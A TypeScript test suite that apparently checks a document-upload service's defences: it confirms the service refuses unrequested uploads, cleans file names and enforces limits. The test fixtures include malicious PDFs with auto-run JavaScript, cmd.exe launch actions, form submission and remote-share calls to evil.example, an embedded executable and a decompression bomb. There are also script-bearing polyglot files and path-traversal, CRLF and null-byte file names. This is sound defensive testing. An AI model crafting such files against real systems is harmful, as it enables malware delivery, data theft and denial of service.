import { randomUUID } from 'node:crypto';
import { closeSync, openSync, rmSync, statfsSync, writeSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { PART_BYTES } from '@homeline/contract/documents/upload-in-parts.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pdfOf, photoOf } from '../../apps/server/src/testing/files.ts';
import { type Installation, startInstallation } from '../journeys/installation.ts';
import { canHaveSmallDisk } from '../journeys/small-disk.ts';
import { completeApplication } from '../journeys/traveller.ts';
import { personNamed } from '../personas/people.ts';
import { type Answer, call, register } from './asking.ts';

const TIMEOUT_MS = 240_000;
const MIB = 1024 * 1024;

type Person = { readonly uuid: string; readonly jwt: string };
type File = {
  readonly bytes: Buffer;
  readonly name?: string;
  readonly type?: string;
  readonly sentAs?: string;
};

let installation: Installation;
/** Somebody whom a step asks for an identity document. */
let asked: Person;
beforeAll(async () => {
  installation = await startInstallation('pglite', {}, canHaveSmallDisk() ? { diskMib: 1300 } : {});
  asked = await completeApplication(
    ...([installation, personNamed('T01'), installation.url, () => 0, 'IDENTITY_VERIFICATION'] as const),
  );
}, TIMEOUT_MS);
afterAll(() => installation?.stop());

function upload({ uuid, jwt }: Person, file: File): Promise<Answer> {
  const { bytes, name = 'license.jpg', type = 'DRIVERSLICENSEFRONT', sentAs = 'image/jpeg' } = file;
  return call(installation, 'uploadDocument', {
    ...{ params: { uuid }, query: { type, name }, jwt, body: bytes, headers: { 'content-type': sentAs } },
  });
}

async function namesOf({ uuid, jwt }: Person): Promise<string[]> {
  const { text } = await call(installation, 'listDocuments', { params: { uuid }, jwt });
  return (JSON.parse(text) as { name?: string; title?: string }[]).map(
    ({ name, title }) => name ?? title ?? '',
  );
}

/** A PDF of one page with these objects and entries of its catalog. */
function pdfWith(catalog: string, objects = '', before = ''): Buffer {
  return Buffer.from(
    pdfOf('')
      .toString('latin1')
      .replace('/Type/Catalog', `/Type/Catalog${catalog}`)
      .replace('trailer', () => `${objects}\ntrailer`)
      .replace('1 0 obj', () => `${before}1 0 obj`),
    'latin1',
  );
}

const SCRIPT = '9 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj';

describe('a file that no step asks for', () => {
  it('is refused from somebody who has just registered, in one piece and in parts', async () => {
    const person = await register(installation, 'fresh@example.com');
    for (const type of ['DRIVERSLICENSEFRONT', 'SUPPORT', 'USER_UPLOADED_PAYSTUB'])
      expect(await upload(person, { bytes: photoOf(type), type })).toMatchObject({ status: 409 });
    const part = await call(installation, 'sendUploadPart', {
      params: { uuid: person.uuid, upload: randomUUID() },
      query: { type: 'SUPPORT', name: 'a.jpg', size: 19_000_000, start: 0 },
      ...{
        jwt: person.jwt,
        body: Buffer.concat([photoOf(''), Buffer.alloc(PART_BYTES)], PART_BYTES),
        headers: { 'content-type': 'image/jpeg' },
      },
    });
    expect(part.status).toBe(409);
  });

  it('is refused from somebody who is asked for another', async () => {
    for (const type of ['SUPPORT', 'PROOFOFHAZARDINSURANCE', 'NOTE', '__proto__'])
      expect((await upload(asked, { bytes: photoOf(''), type })).status).toBeGreaterThanOrEqual(400);
  });
});

describe('a file that is not what it says', () => {
  const deflated = (text: string) => deflateSync(Buffer.from(text)).toString('latin1');
  const objectStream = (text: string) => {
    const body = deflated(`9 0 ${text}`);
    return `8 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${body.length}>>stream\n${body}\nendstream endobj`;
  };
  const bomb = deflateSync(Buffer.alloc(200 * MIB)).toString('latin1');
  const cases: readonly (readonly [string, Buffer])[] = [
    ['a script that runs when it opens', pdfWith('/OpenAction 9 0 R', SCRIPT)],
    [
      'a script between the marks of a stream that is none',
      pdfWith('/OpenAction 9 0 R', `%stream\n${SCRIPT}\n%endstream`),
    ],
    [
      'a script within a stream, at the place that the table of objects names',
      pdfWith('/OpenAction 9 0 R', `7 0 obj<</Length ${SCRIPT.length}>>stream\n${SCRIPT}\nendstream endobj`),
    ],
    [
      'a script between such marks in a text',
      pdfWith('/OpenAction 9 0 R', `7 0 obj(stream\n)endobj ${SCRIPT} 6 0 obj(endstream)endobj`),
    ],
    [
      'a script under a name in hexadecimal',
      pdfWith('/OpenAction 9 0 R', '9 0 obj<</S/#4aava#53cript/#4A#53(app.alert\\(1\\))>>endobj'),
    ],
    ['a script in the names of the catalog', pdfWith('/Names<</JavaScript<</Names[(a) 9 0 R]>>>>', SCRIPT)],
    ['a program to launch', pdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>')],
    [
      'a program to launch from a page',
      pdfWith('', '').toString('latin1').includes('/Page')
        ? Buffer.from(
            pdfOf('')
              .toString('latin1')
              .replace('/Type/Page/Parent', '/Type/Page/AA<</O<</S/Launch/F(cmd.exe)>>>>/Parent'),
            'latin1',
          )
        : Buffer.alloc(0),
    ],
    ['a form that sends itself away', pdfWith('/OpenAction<</S/SubmitForm/F(https://evil.example)>>')],
    [
      'a file inside',
      pdfWith(
        '/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>]>>>>',
        '9 0 obj<</Length 2>>stream\nMZ\nendstream endobj',
      ),
    ],
    [
      'a document of another machine to open',
      pdfWith('/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>'),
    ],
    ['a document inside to open', pdfWith('/OpenAction<</S/GoToE/F(a.pdf)/D[0/Fit]/T<</R/C/N(a)>>>>')],
    [
      'a form of XML with scripts (XFA)',
      pdfWith(
        '/AcroForm<</XFA 9 0 R/Fields[]>>',
        '9 0 obj<</Length 60>>stream\n<xdp><script contentType="application/x-javascript"/></xdp>    \nendstream endobj',
      ),
    ],
    [
      'a script in a compressed object',
      pdfWith('/OpenAction 9 0 R', objectStream('<</S/JavaScript/JS(app.alert\\(1\\))>>')),
    ],
    [
      'no pages',
      Buffer.from(pdfOf('').toString('latin1').replace('/Kids[3 0 R]/Count 1', '/Kids[]/Count 0')),
    ],
    ['its first half', pdfOf('').subarray(0, 120)],
    ['the header of a PDF alone', Buffer.from('%PDF-1.7\n')],
    [
      'a web page before the PDF',
      Buffer.concat([Buffer.from(`<html><script>alert(1)</script>${' '.repeat(2000)}`), pdfOf('')]),
    ],
    ['a program with the ending of a picture', Buffer.from(`MZ\x90\x00${'\0'.repeat(2000)}`, 'latin1')],
    ['a picture of three bytes', Buffer.from([0xff, 0xd8, 0xff])],
    [
      'a web page after the mark of a PNG',
      Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.from('<script>alert(1)</script>')]),
    ],
    ['an SVG with a script', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['an empty file', Buffer.alloc(0)],
  ];
  it.each(cases)('is refused: %s', async (_, bytes) => {
    const answer = await upload(asked, { bytes, name: 'statement.pdf', sentAs: 'application/pdf' });
    expect(answer.status, answer.text).toBeGreaterThanOrEqual(400);
    expect(answer.status, answer.text).toBeLessThan(500);
  });

  it('keeps nobody waiting, though it inflates to 200 MB or claims a billion dots', async () => {
    const stream = `<</Filter/FlateDecode/Length ${bomb.length}>>stream\n${bomb}\nendstream endobj`;
    const bombs = [
      pdfWith('', `8 0 obj${stream.replace('<<', '<</Type/ObjStm/N 1/First 4')}`),
      Buffer.from(
        pdfWith('', `8 0 obj${stream}`).toString('latin1').replace('/MediaBox', '/Contents 8 0 R/MediaBox'),
        'latin1',
      ),
    ];
    for (const bytes of bombs) {
      const sent = upload(asked, { bytes, name: 'bomb.pdf', sentAs: 'application/pdf' });
      const before = performance.now();
      expect(
        (await call(installation, 'getStatus', { params: { uuid: asked.uuid }, jwt: asked.jwt })).status,
      ).toBe(200);
      expect(performance.now() - before).toBeLessThan(5000);
      expect((await sent).status).toBeLessThan(500);
    }
  });
});

describe('the name of a file', () => {
  it.each([
    ['../../etc/passwd\u202egpj.exe', /^[^/\\\u202e]*\.jpg$/],
    ['a\r\nSet-Cookie: a=b.jpg', /^[^\r\n]*\.jpg$/],
    ['C:\\Windows\\system32\\cmd.exe', /^[^\\/:]*\.jpg$/],
    ['photo.jpg\u0000.exe', /^photo[\w. -]*\.jpg$/],
    ['license.html', /\.jpg$/],
    ['  .jpg', /^[^\s.].*\.jpg$/],
    ['\u2066\u2067\u200f.jpg', /^[\w -]+\.jpg$/],
    ['"; filename="x.exe', /^[^"]*\.jpg$/],
    ['ⅴⅵ／..／x.jpg', /^[^/\\]*\.jpg$/],
    ['CON.jpg', /\.jpg$/],
  ])('is cleaned where it is stored and offered: %j', async (name, cleaned) => {
    const { status, body, text } = await upload(asked, { bytes: photoOf(name), name });
    if (status >= 400 && status < 500) return;
    expect(status, text).toBe(201);
    const document = String(body['uuid']);
    const { headers } = await call(installation, 'getDocumentFile', {
      params: { uuid: asked.uuid, document },
      jwt: asked.jwt,
    });
    const [, offered = ''] = /filename\*=UTF-8''([^;]*)/.exec(String(headers['content-disposition'])) ?? [];
    expect(decodeURIComponent(offered)).toMatch(cleaned);
    expect(String(headers['content-disposition'])).toMatch(/^attachment; filename="[\w. -]+"; filename\*=/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect((await namesOf(asked)).join()).not.toMatch(/[\u202e\r\n]/);
  });
});

describe('a person whom a step asks for files', () => {
  it('may send as many as the step needs, and no more', async () => {
    const statuses: number[] = [];
    for (let number = 0; number < 40; number += 1)
      statuses.push((await upload(asked, { bytes: photoOf(`number ${number}`) })).status);
    expect(statuses).toContain(201);
    expect(statuses.slice(-10)).toEqual(Array.from({ length: 10 }, () => 400));
  });

  it('may not send them at once to get around the limit', async () => {
    const other = await completeApplication(
      ...([installation, { ...personNamed('T01'), email: 'atonce@example.com' }, installation.url] as const),
      ...([() => 0, 'IDENTITY_VERIFICATION'] as const),
    );
    const answers = await Promise.all(
      Array.from({ length: 60 }, (_, number) => upload(other, { bytes: photoOf(`at once ${number}`) })),
    );
    expect(answers.filter(({ status }) => status === 201).length).toBeLessThanOrEqual(24);
  });
});

describe.runIf(canHaveSmallDisk())('a disk that runs full', () => {
  it(
    'takes no more uploads while registrations and answers go on, and says so to whoever watches',
    async () => {
      const { dataDir } = installation;
      const filler = join(dataDir(), 'filler');
      const freeBytes = () => {
        const { bavail, bsize } = statfsSync(dataDir());
        return bavail * bsize;
      };
      const file = openSync(filler, 'a');
      while (freeBytes() > 900_000_000) writeSync(file, Buffer.alloc(MIB));
      closeSync(file);
      const person = await completeApplication(
        ...([installation, { ...personNamed('T01'), email: 'full@example.com' }, installation.url] as const),
        ...([() => 0, 'IDENTITY_VERIFICATION'] as const),
      );
      expect(await upload(person, { bytes: photoOf('full') })).toMatchObject({ status: 503 });
      await register(installation, 'while-full@example.com');
      const ready = await (await fetch(`${installation.url}/readyz`)).json();
      expect(ready).toEqual({ status: 'ready', uploads: 'FULL' });
      rmSync(filler);
      expect(await upload(person, { bytes: photoOf('room') })).toMatchObject({ status: 201 });
    },
    TIMEOUT_MS,
  );
});
